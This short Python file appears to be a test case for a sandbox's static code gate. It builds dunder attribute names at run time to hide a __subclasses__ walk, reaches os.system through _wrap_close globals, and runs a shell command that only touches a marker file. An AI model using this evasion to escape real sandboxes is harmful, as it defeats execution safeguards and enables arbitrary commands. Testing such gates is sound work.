# Tries: the __subclasses__ walk with attribute names built at run time (invisible to the AST gate).
# ruff: noqa
from operator import attrgetter

d = "_" * 2
base = attrgetter(d + "class" + d + "." + d + "base" + d)(())
for cls in attrgetter(d + "subclasses" + d)(base)():
    if cls.__name__ == "_wrap_close":
        attrgetter(d + "init" + d + "." + d + "globals" + d)(cls)["system"]("touch NEXUS_MARKER_TMP")
